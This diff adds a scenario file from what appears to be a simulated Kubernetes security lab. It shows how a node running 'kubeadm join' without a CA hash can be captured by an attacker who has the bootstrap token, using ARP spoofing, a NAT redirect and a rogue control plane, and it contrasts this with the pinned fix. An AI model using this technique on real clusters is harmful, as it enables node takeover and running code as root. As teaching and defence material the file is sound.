@@ -1,0 +1,154 @@
+import { randomBytes } from 'node:crypto';
+import { neighbour } from '../../attacker/position';
+import { systemClock } from '../../client/clock';
+import type { KubeClient } from '../../client/kube-client';
+import { bootstrapClientCertificate } from '../../kubelet/bootstrap';
+import { type DiscoveredCluster, discoverCluster } from '../../kubelet/discover-cluster';
+import { type Kubelet, startKubelet } from '../../kubelet/kubelet';
+import { parseKubeletConfiguration } from '../../kubelet/kubelet-configuration';
+import { clientOf } from '../../kubelet/node-identity';
+import { pinsOf } from '../../kubelet/public-key-pin';
+import type { FabricHost } from '../../network/fabric';
+import { generateKey, privateKeyPem } from '../../pki/key-algorithm';
+import { selfSignedKubeletServing } from '../../pki/kubelet-serving';
+import { type BootstrapToken, parseBootstrapToken } from '../../wire/detached-jws';
+import { addresses, ports } from '../addresses';
+import { randomCanaries } from '../canaries';
+import { createObjects } from '../create-workloads';
+import { publishClusterInfo } from '../joining-objects';
+import { signedWith, startControlPlaneOfAttacker } from './control-plane-of-attacker';
+import { outputOf } from './pod-output';
+import type { Scenario } from './scenario';
+import type { Stage } from './stage';
+
+const server = { host: addresses.controlPlane, port: ports.apiserver };
+
+export const joinWithoutCaHash: Scenario = {
+  id: 'join-without-ca-hash',
+  title: 'a machine that joins whoever knows its token',
+  story:
+    'A machine that joins learns the cluster’s CA from cluster-info, over TLS that it does not verify, signed with the bootstrap token. That signature is a MAC: a stranger on the path cannot make it, but whoever knows the token can, be it from a CI log or as one who joined with it before. He answers from a control plane of his own, and the machine becomes a node of his cluster. A hash of the CA’s public key, which no token gives him, ends that.',
+  setting: {
+    name: 'kubeadm join',
+    open: '--discovery-token-unsafe-skip-ca-verification',
+    fixed: '--discovery-token-ca-cert-hash sha256:…',
+  },
+  notice:
+    'The machine says that it joined, and kubectl get nodes does not know it. The CA in its bootstrap-kubelet.conf and kubelet.conf has another public key than the cluster’s (openssl x509 -pubkey | openssl pkey -pubin -outform der | sha256sum); ip neigh on it has two addresses at one hardware address.',
+  sources: [
+    'cmd/kubeadm/app/discovery/token/token.go',
+    'staging/src/k8s.io/cluster-bootstrap/token/jws/jws.go',
+    'kubernetes.io, "kubeadm join": token-based discovery without CA pinning',
+  ],
+  async play(stage, twin) {
+    const { signal } = stage;
+    const cluster = await stage.cluster();
+    const { admin, attackerHost, newNode, pki } = cluster;
+    await publishClusterInfo(admin, server, pki.caPem);
+    const token = parseBootstrapToken(await cluster.credentials.bootstrapToken());
+    if (token === null) throw new Error('the lab made no bootstrap token');
+    await signedWith(admin, token, signal);
+    const pins = twin === 'fixed' ? pinsOf(pki.caPem) : [];
+    const [pin] = pins;
+    const flag =
+      pin === undefined
+        ? '--discovery-token-unsafe-skip-ca-verification'
+        : `--discovery-token-ca-cert-hash ${pin.slice(0, 15)}…`;
+    const join = `kubeadm join ${server.host}:${server.port} --token ${token.id}.${token.secret} ${flag}`;
+
+    const rogue = await startControlPlaneOfAttacker(stage, attackerHost);
+    stage.did('attacker', 'kubeadm init', `a control plane of its own, CA ${pinsOf(rogue.caPem)[0]}`);
+    const position = neighbour(newNode, attackerHost, server.host);
+    position.take();
+    attackerHost.nat.redirect({ to: { address: server.host, port: server.port }, toPort: server.port });
+    stage.did('attacker', `arpspoof -t ${newNode.name} ${server.host}`, position.describe());
+
+    // The id stands in cluster-info, for anybody; the secret it has to guess.
+    await rogue.know({ id: token.id, secret: randomBytes(8).toString('hex') });
+    const withoutToken = await discover(stage, newNode, token, pins);
+    if (withoutToken.kind === 'discovered') throw new Error('node-3 believed somebody without the token');
+    stage.refused('node-3', `${join}  # while the attacker does not know the token`, withoutToken.text);
+
+    await rogue.know(token);
+    const create = `kubeadm token create ${token.id}.${token.secret}  # from a CI log`;
+    stage.did('attacker', create, 'its cluster-info is signed as node-3 expects it');
+    const found = await discover(stage, newNode, token, pins);
+    if (found.kind === 'refused') stage.refused('node-3', join, found.text);
+    else if (found.caPem === rogue.caPem) {
+      const saw = `bootstrap-kubelet.conf: the CA is ${pinsOf(found.caPem)[0]}`;
+      stage.gained('node-3', join, saw, 'a machine that believes its authority from now on');
+    }
+
+    const kubelet = found.kind === 'discovered' ? await runKubelet(stage, newNode, found.config) : null;
+    const missing = await admin.request('GET', '/api/v1/nodes/node-3', { signal });
+    stage.did('admin', 'kubectl get node node-3', missing.words);
+    const theirs = await rogue.admin.request('GET', '/api/v1/nodes/node-3', { signal });
+    const look = 'kubectl --kubeconfig own.conf get node node-3';
+    if (kubelet === null || !theirs.ok) return stage.refused('attacker', look, theirs.words);
+    stage.gained('attacker', look, 'node-3', 'a node of its own cluster');
+    const output = await runPod(rogue.admin, kubelet, signal);
+    const run = `kubectl --kubeconfig own.conf run own --overrides='{"spec":{"nodeName":"node-3", …}}'`;
+    const saw = `crictl logs on node-3: ${output}`;
+    if (output !== '') stage.gained('attacker', run, saw, 'any pod it likes on that machine, root included');
+  },
+};
+
+async function discover(stage: Stage, from: FabricHost, token: BootstrapToken, caCertHashes: string[]) {
+  const { log, signal } = stage;
+  const found = await discoverCluster({
+    from,
+    server,
+    token,
+    caCertHashes,
+    clock: systemClock,
+    log,
+    signal,
+  });
+  if (found.kind === 'discovered') return found;
+  return { ...found, text: `couldn't validate the identity of the API Server: ${found.text}` };
+}
+
+/** What the join does next: asks for a client certificate with the token, and becomes the node's kubelet with it. */
+async function runKubelet(
+  stage: Stage,
+  host: FabricHost,
+  config: DiscoveredCluster['config'],
+): Promise<Kubelet> {
+  const { log, signal } = stage;
+  const keyPem = privateKeyPem((await generateKey('ec-p256')).privateKey);
+  await using client = clientOf(host, config);
+  const options = { client, nodeName: host.name, keyPem, clock: systemClock, log, signal };
+  const certificate = await bootstrapClientCertificate(options);
+  if (certificate.kind === 'failed') throw new Error(`${host.name} got no certificate: ${certificate.text}`);
+  const configuration = {
+    apiVersion: 'kubelet.config.k8s.io/v1beta1',
+    kind: 'KubeletConfiguration',
+    address: addresses.node3,
+    healthzPort: 0,
+    authentication: { x509: { clientCAFile: '/etc/kubernetes/pki/ca.crt' } },
+  };
+  const { trust } = config;
+  return stage.closeLater(
+    await startKubelet({
+      host,
+      nodeName: host.name,
+      config: parseKubeletConfiguration(JSON.stringify(configuration), 'KubeletConfiguration'),
+      apiserver: { server: config.server, trust, clientCertificate: certificate.pair },
+      sandbox: { attachPod: () => host },
+      servingKeyPair: await selfSignedKubeletServing(host.name),
+      clientCaPem: trust.kind === 'verify' ? trust.bundlePem : null,
+      log,
+    }),
+  );
+}
+
+/** What a pod that only the attacker's apiserver knows wrote on that machine; '' when it is not what it was told to. */
+async function runPod(admin: KubeClient, kubelet: Kubelet, signal: AbortSignal): Promise<string> {
+  const { forged } = randomCanaries();
+  const command = ['sh', '-c', `echo ${forged}; sleep 100000`];
+  const spec = { nodeName: kubelet.nodeName, containers: [{ name: 'own', image: 'busybox', command }] };
+  const object = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'own', namespace: 'default' }, spec };
+  await createObjects(admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
+  const output = await outputOf(kubelet, 'own', 'own', signal);
+  return output.includes(forged) ? output : '';
+}
